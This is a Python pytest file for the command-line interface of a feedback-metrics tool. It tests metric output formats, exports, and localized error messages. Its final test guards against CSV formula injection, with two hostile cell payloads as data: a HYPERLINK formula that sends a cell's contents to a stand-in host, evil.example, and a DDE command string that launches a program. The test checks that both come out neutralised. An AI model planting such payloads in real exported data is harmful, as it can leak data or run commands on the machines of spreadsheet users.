"""`kizuna metrics ...` and `kizuna export` as a person types them."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from reports_data import add_customers, add_feedback
from typer.testing import CliRunner

from kizuna import Kizuna, Settings
from kizuna.cli import app, main


@pytest.fixture
def runner(monkeypatch: pytest.MonkeyPatch, settings: Settings, kz: Kizuna) -> CliRunner:
    monkeypatch.setenv("KIZUNA_DATABASE_URL", settings.database_url)
    return CliRunner()


@pytest.fixture
def slug(kz: Kizuna, ws: Any) -> str:
    add_feedback(kz, ws.workspace.id, 200, add_customers(kz, ws.workspace.id, 10))
    return str(ws.slug)


def test_metrics_json_by_channel_and_month(runner: CliRunner, slug: str) -> None:
    result = runner.invoke(
        app,
        ["metrics", "nps", "--workspace", slug, "--by", "channel", "--period", "month",
         "--from", "2024-02-01", "--to", "2024-03-31", "--format", "json"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    records = json.loads(result.output)
    assert {r["period"] for r in records} == {"2024-02-01", "2024-03-01"}
    assert {r["channel"] for r in records} <= {"web", "app", "store", "call_center"}
    assert all(-100 <= r["ci_low"] <= r["value"] <= r["ci_high"] <= 100 for r in records)


def test_metrics_table_and_csv(runner: CliRunner, slug: str) -> None:
    table = runner.invoke(app, ["metrics", "csat", "--workspace", slug, "--by", "age_band"])
    assert table.exit_code == 0, table.output
    assert "CSAT" in table.output and "ci_low" in table.output
    out = runner.invoke(app, ["metrics", "ces", "--workspace", slug, "--format", "csv"])
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.output)))
    assert len(rows) == 1 and 1 <= float(rows[0]["mean"]) <= 7


def test_export_then_metrics_on_parquet_agree(runner: CliRunner, slug: str, tmp_path: Path) -> None:
    exported = runner.invoke(app, ["export", "--workspace", slug, "--to", str(tmp_path)])
    assert exported.exit_code == 0, exported.output
    assert "feedback: 200 rows" in exported.output
    common = ["metrics", "enps", "--workspace", slug, "--period", "week", "--format", "json"]
    here = runner.invoke(app, common)
    there = runner.invoke(app, [*common, "--engine", "parquet", "--parquet", str(tmp_path)])
    assert here.exit_code == 0 and there.exit_code == 0, there.output
    assert json.loads(here.output) == json.loads(there.output)


def test_unknown_dimension_prints_choices_in_japanese_without_traceback(
    runner: CliRunner,
    slug: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    argv = ["kizuna", "metrics", "nps", "--workspace", slug, "--by", "colour"]
    monkeypatch.setattr("sys.argv", argv)
    with pytest.raises(SystemExit) as exited:
        main()
    assert exited.value.code == 2
    err = capsys.readouterr().err
    assert "分析軸「colour」" in err and "age_band" in err
    assert "Traceback" not in err


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
    runner: CliRunner, kz: Kizuna, ws: Any, tmp_path: Path
) -> None:
    """OWASP CSV injection: a touchpoint named like a formula comes out as text."""
    from kizuna.ingest.service import ingest_records, write_rejections_csv

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    records = [
        {"received_at": "2024-02-10", "nps": 9, "touchpoint": formula},
        {"received_at": "not a date", "nps": 3, "touchpoint": "@SUM(1+1)*cmd|' /C calc'!A0"},
    ]
    summary, _ = ingest_records(kz, ws.workspace, "feedback", records)
    out = runner.invoke(
        app, ["metrics", "nps", "--workspace", ws.slug, "--by", "touchpoint", "--format", "csv"]
    )
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.output)))
    assert [r["touchpoint"] for r in rows] == ["'" + formula]
    report = tmp_path / "rejected.csv"
    assert write_rejections_csv(kz, summary.run_id, report) == 1
    written = list(csv.DictReader(io.StringIO(report.read_text("utf-8-sig"))))
    assert written[0]["touchpoint"].startswith("'@SUM")
